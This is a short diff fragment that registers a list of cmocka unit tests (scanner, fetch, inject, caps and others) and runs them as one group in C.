+		cmocka_unit_test_setup_teardown(t_scanner, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_mounts_nippon, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_cp_chmod_cat_echo, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_echo_rebuild, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_exec_elf, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_inject, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_caps, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_cli, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_real_persona, setup, teardown),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
